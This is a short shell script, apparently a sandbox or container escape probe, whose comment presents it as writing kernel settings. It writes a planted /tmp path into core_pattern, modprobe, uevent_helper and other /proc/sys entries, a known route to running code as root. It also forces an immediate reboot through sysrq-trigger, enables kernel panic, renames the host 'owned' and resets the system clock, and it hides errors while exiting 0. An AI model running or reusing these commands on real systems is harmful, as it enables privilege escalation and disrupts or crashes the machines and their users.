# Writes the settings of the kernel, among them the program that takes a dead process's memory.
for setting in kernel/core_pattern kernel/modprobe kernel/hostname vm/overcommit_memory vm/drop_caches kernel/sysrq fs/file-max kernel/randomize_va_space kernel/ns_last_pid; do
  echo "|/tmp/planted-$MARK" > /proc/sys/$setting
done 2> /dev/null
echo b > /proc/sysrq-trigger; echo "$MARK" > /sys/kernel/uevent_helper; echo 1 > /proc/sys/kernel/panic
hostname owned; date -s 2000-01-01; sysctl -w kernel.core_pattern=x
exit 0
